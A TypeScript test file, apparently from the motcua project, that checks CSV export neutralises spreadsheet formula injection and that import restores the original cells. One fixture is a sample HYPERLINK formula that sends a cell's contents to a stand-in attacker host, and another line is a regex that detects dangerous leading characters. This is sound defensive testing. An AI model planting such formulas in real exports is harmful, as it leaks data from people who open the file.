// Formula injection in every CSV motcua writes (issue 14, item 9; CONTRACTS.md §3): a cell starting with
// = + - @ (or a tab or carriage return) is written with a leading apostrophe, and motcua's import reads it back.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import fc from "fast-check";
import { neutraliseCell, parseCsv, restoreCell, stringifyCsv } from "./csv.ts";
import { exportProceduresCsv, importProceduresCsv, PROCEDURE_CSV_COLUMNS } from "./procedure-csv.ts";
import { CatalogFile, importProceduresJson } from "./procedure-json.ts";

const DANGEROUS = /^[=+\-@\t\r]/;

test("cells a spreadsheet would evaluate get a leading apostrophe; others are untouched", () => {
  assert.equal(neutraliseCell('=HYPERLINK("http://x","y")'), `'=HYPERLINK("http://x","y")`);
  assert.equal(neutraliseCell("+84905123456"), "'+84905123456");
  assert.equal(neutraliseCell("-1"), "'-1");
  assert.equal(neutraliseCell("@SUM(A1)"), "'@SUM(A1)");
  assert.equal(neutraliseCell("\t=1"), "'\t=1");
  assert.equal(neutraliseCell("Chứng thực"), "Chứng thực");
  assert.equal(neutraliseCell("a=b"), "a=b");
  assert.equal(neutraliseCell(""), "");
  assert.equal(restoreCell("'=1"), "=1");
  assert.equal(restoreCell("'abc"), "'abc", "an apostrophe motcua did not add stays");
});

test("property: no written cell starts with = + - @, and parse + restore gives the rows back", () => {
  const cell = fc.oneof(
    fc.string(),
    fc.tuple(fc.constantFrom("=", "+", "-", "@", "'", "\t", "'="), fc.string()).map(([a, b]) => a + b),
  );
  fc.assert(
    fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
      // Rows of one empty cell are blank lines, which CSV cannot tell from nothing.
      const kept = rows.filter((r) => !(r.length === 1 && r[0] === ""));
      const records = parseCsv(stringifyCsv(kept));
      for (const record of records) for (const f of record.fields) assert.doesNotMatch(f, DANGEROUS);
      const restored = records.map((r) => r.fields.map(restoreCell));
      // A cell written as "'=…" by hand reads back as "=…": the documented price of restoring.
      const expected = kept.map((r) => r.map((v) => (v.startsWith("'") ? restoreCell(v) : v)));
      assert.deepEqual(restored, expected);
    }),
    { numRuns: 500 },
  );
});

test('a procedure named "=HYPERLINK(…)" is exported neutralised and imported back unchanged', () => {
  const raw = JSON.parse(readFileSync(new URL("./data/procedures.json", import.meta.url), "utf8"));
  const [first] = importProceduresJson(CatalogFile.parse(raw).procedures).ok;
  assert.ok(first);
  const evil = {
    ...first,
    name: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    field: "@Chứng thực",
    agency: "-UBND cấp xã",
  };
  const csv = exportProceduresCsv([evil]);
  const [header, row] = parseCsv(csv).map((r) => r.fields);
  const cellOf = (column: string) => row![header!.indexOf(column)]!;
  assert.equal(cellOf("name"), `'${evil.name}`);
  assert.equal(cellOf("field"), "'@Chứng thực");
  assert.equal(cellOf("agency"), "'-UBND cấp xã");
  for (const column of PROCEDURE_CSV_COLUMNS) assert.doesNotMatch(cellOf(column), DANGEROUS, column);
  const back = importProceduresCsv(csv);
  assert.deepEqual(back.errors, []);
  assert.deepEqual(back.ok, [evil]);
});
